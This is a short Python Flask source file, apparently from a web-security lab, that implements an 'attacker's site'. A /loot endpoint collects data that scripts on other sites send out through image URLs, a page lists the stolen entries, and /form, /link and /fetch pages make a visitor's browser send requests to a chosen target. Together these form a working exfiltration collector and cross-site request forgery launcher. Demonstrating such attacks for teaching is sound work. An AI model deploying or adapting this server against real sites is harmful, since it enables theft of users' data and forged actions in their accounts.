"""The attacker's site: it collects what is sent to it, and has pages that make a visitor's browser send things."""

from flask import Flask, current_app, render_template, request


def create_app() -> Flask:
    app = Flask(__name__)
    app.extensions["loot"] = []
    app.add_url_rule("/", view_func=show)
    app.add_url_rule("/loot", view_func=collect)
    for name in ("form", "link", "fetch"):
        app.add_url_rule(f"/{name}", name, attack)
    return app


# region loot
def collect():
    """Whatever is in the query string: scripts on other sites send it by the address of an image."""
    current_app.extensions["loot"].append(request.args.to_dict())
    return "", 204


def show():
    return render_template("loot.html", loot=current_app.extensions["loot"])


# endregion


def attack():
    """A page that has its visitor's browser ask `target` for something."""
    return render_template(f"{request.endpoint}.html", target=request.args["target"])
